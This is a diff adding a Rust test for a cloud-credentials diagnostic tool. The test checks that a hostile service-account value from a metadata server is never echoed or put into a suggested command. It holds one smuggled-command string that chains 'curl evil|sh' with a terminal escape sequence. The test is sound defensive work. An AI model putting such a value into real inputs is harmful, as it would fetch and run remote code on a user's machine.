@@ -141,6 +141,25 @@ fn a_missing_impersonation_permission_names_the_role_the_member_and_the_account(
 }
 
 #[test]
+fn a_metadata_servers_account_that_is_no_email_is_never_printed_nor_put_in_a_command() {
+    let emulator = Emulator::start();
+    let hostile = "x@y; curl evil|sh \u{1b}[2J";
+    emulator.set_metadata_account(hostile, "emulator-project", 123456789012);
+    emulator.add_service_account(TARGET);
+    let mut sandbox = Sandbox::new();
+    sandbox.env("GCE_METADATA_HOST", emulator.metadata_host());
+    let out = sandbox.run(&["doctor"]);
+    assert!(line(&out, "ok", "token").contains("for the metadata server's account"), "{}", out.stdout);
+    let out =
+        sandbox.run(&["doctor", "--impersonate-service-account", TARGET, "--iam-endpoint", emulator.url()]);
+    let denied = line(&out, "fail", "impersonation");
+    assert!(denied.ends_with("--member serviceAccount:SERVICE_ACCOUNT_EMAIL"), "{denied}");
+    for shown in [&out.stdout, &out.stderr] {
+        assert!(!shown.contains("curl") && !shown.contains('\u{1b}'), "{shown}");
+    }
+}
+
+#[test]
 fn a_workload_without_workload_identity_user_is_told_the_role_for_its_principal() {
     let emulator = Emulator::start();
     let issuer: OidcIssuer = emulator.add_oidc_issuer("https://kubernetes.default.svc.cluster.local");
